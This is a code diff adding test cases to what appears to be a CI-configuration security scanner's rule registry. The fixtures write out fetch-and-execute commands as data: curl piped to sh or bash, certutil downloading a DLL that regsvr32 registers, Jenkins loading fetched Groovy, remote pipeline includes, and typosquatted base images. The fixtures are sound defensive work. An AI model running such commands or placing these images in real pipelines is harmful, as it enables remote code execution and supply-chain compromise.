@@ -71,10 +71,14 @@ var registry = []Rule{
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+		// A Jenkinsfile's load evaluates the Groovy file a sh step fetched.
+		{"Jenkinsfile", "node {\n  sh 'curl -sSfL https://x.invalid/ci.groovy -o ci.groovy'\n  def ci = load 'ci.groovy'\n}", 3, false},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
 		{"x.sh", "wget -qO- https://x.invalid/s | sh -s -- --quiet", 0, false},
 		// Anyone's repository on a forge is not a vendor's host.
 		{"x.sh", "curl -fsSL https://raw.githubusercontent.com/go-enumer/tools/main/gen.sh | sh", 0, false},
+		{"x.sh", "curl -fsSL https://github.com/acme/t/releases/latest/download/install.sh | sh", 0, false},
+		{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool-cdn.invalid | bash", 0, false},
 		{".gitlab-ci.yml", "scan:\n  script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 0, true},
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
@@ -172,6 +176,10 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
 			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
+			// A release's installer at a version tag, and the installer of
+			// the tool a dev container feature is named after.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://github.com/acme/dist/releases/download/v0.31.0/dist-installer.sh | sh", 6, false},
+			{".devcontainer/features/ktool/install.sh", "curl -LsSf https://setup.ktool.invalid | bash", 0, false},
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
@@ -603,6 +611,8 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "test:\n  image:\n    name: pyth0n-official/python:3.12\n    entrypoint: [\"\"]", 3, false},
 			{".buildkite/pipeline.yml", "steps:\n  - plugins:\n      - buildkite-plugin/docker#v5.9.0:\n          image: node:20", 3, false},
 			{"docker-compose.yml", "services:\n  app:\n    build:\n      context: .\n      args:\n        BASE_IMAGE: nodejs-official/node:20", 6, false},
+			{".devcontainer/devcontainer.json", "{\n  \"build\": {\n    \"args\": {\n      \"BASE_IMAGE\": \"pyth0n-official/python:3.12\",\n      \"VARIANT\": \"3.12\"\n    }\n  }\n}", 4, false},
+			{".woodpecker.yml", "steps:\n  - name: build\n    image: pyth0n-official/python:3.12", 3, false},
 			{"Dockerfile", "ARG GO_VERSION=1.23\nARG BASE_IMAGE=docker.io/library/golang:1.23\nFROM ${BASE_IMAGE} AS build\nFROM golang:${GO_VERSION}\nFROM ${RUNTIME_IMAGE}", 0, true},
 		}},
 	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
@@ -615,6 +625,7 @@ var registry = []Rule{
 			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: github\n      name: someone/pipeline-templates\n      endpoint: gh\nextends:\n  template: build.yml@templates", 5, false},
 			{"Jenkinsfile", "library identifier: 'ci@main', retriever: modernSCM(\n  [$class: 'GitSCMSource', remote: 'https://git.x.invalid/ci/pipeline-lib.git'])", 2, false},
 			{".gitlab-ci.yml", "variables:\n  TEMPLATES: https://ci.x.invalid/templates\ninclude:\n  - remote: $TEMPLATES/python.yml", 4, false},
+			{".gitlab-ci.yml", "include: { remote: 'https://ci.x.invalid/python.yml' }", 1, false},
 			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker#v5.9.0:\n          image: node:20\n      - someone/deploy-helper#main: ~", 6, false},
 			// A reusable workflow of another owner than the one the file
 			// names as its own, at a tag, handed every secret.
